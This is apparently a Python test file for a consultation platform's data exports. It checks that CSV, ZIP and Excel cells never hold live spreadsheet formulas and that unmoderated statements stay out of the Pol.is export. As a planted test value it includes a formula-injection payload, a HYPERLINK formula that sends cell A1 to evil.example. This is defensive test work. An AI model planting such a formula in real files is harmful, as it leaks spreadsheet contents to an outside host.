"""Every export the access matrix declares: no cell is a live spreadsheet formula,
and the Pol.is export carries no statement a moderator has not passed."""

from __future__ import annotations

import csv
import io
import zipfile

from openpyxl import load_workbook

from community.accounts.models import User
from community.contributions.models import ContributionStatus
from community.conversations.models import Conversation, Statement
from community.extensions import db
from community.spreadsheet import is_live_formula, neutralise
from tests.conftest import sign_in_client
from tests.support.factories import make_contribution
from tests.test_access_matrix import MATRIX, ids  # noqa: F401  (the fixture)

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
HELD = "=HELD_STATEMENT()"
EXPORTS = ("export", "download", "dataset_csv")


def _cells(body: bytes, content_type: str):
    if body[:2] == b"PK" and "zip" in content_type:
        archive = zipfile.ZipFile(io.BytesIO(body))
        for name in archive.namelist():
            if name.endswith(".csv"):
                yield from _cells(archive.read(name), "text/csv")
        return
    if body[:2] == b"PK":
        for sheet in load_workbook(io.BytesIO(body), read_only=True).worksheets:
            for row in sheet.iter_rows(values_only=True):
                yield from (c for c in row if isinstance(c, str))
        return
    if "csv" in content_type:
        for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))):
            yield from row


def test_no_export_holds_a_live_formula(app, users, ids):  # noqa: F811
    with app.app_context():
        conversation = db.session.get(Conversation, ids["conversation"])
        for body, status in ((FORMULA, "published"), (HELD, "pending")):
            db.session.add(
                Statement(
                    conversation_id=conversation.id,
                    consultation_id=conversation.consultation_id,
                    body=body,
                    status=ContributionStatus(status),
                )
            )
        make_contribution(db.session.get(Conversation, ids["conversation"]).consultation,
                          status="published", body=FORMULA)  # fmt: skip
        db.session.get(User, users["admin"].id).display_name = FORMULA
        db.session.commit()
    with app.test_request_context():
        from flask import url_for

        urls = {
            name: url_for(name, **route.args(ids))
            for name, route in MATRIX.items()
            if route.method == "GET" and any(word in name for word in EXPORTS)
        }
    assert len(urls) >= 8, urls
    live, seen_formula = [], set()
    for name, url in urls.items():
        response = sign_in_client(app, users["admin"]).get(url)
        assert response.status_code == 200, (name, response.status_code)
        for cell in _cells(response.get_data(), response.content_type):
            if is_live_formula(cell):
                live.append(f"{name}: {cell[:60]}")
            if FORMULA in cell:
                seen_formula.add(name)
            # Officers' tagging exports include held text on purpose; the Pol.is one
            # leaves the partnership, so it carries only what a moderator passed.
            assert not (name == "conversations_admin.export" and HELD in cell), cell
    assert not live, "\n".join(live)
    # The planted text did reach the exports that carry it (neutralised, not dropped).
    assert {"conversations_admin.export", "privacy.download"} <= seen_formula


def test_neutralise_leaves_numbers_and_quotes_formulas():
    assert neutralise("=1+1") == "'=1+1" and neutralise("@SUM(A1)") == "'@SUM(A1)"
    assert neutralise("-3") == "-3" and neutralise(5) == 5 and neutralise("Fine") == "Fine"
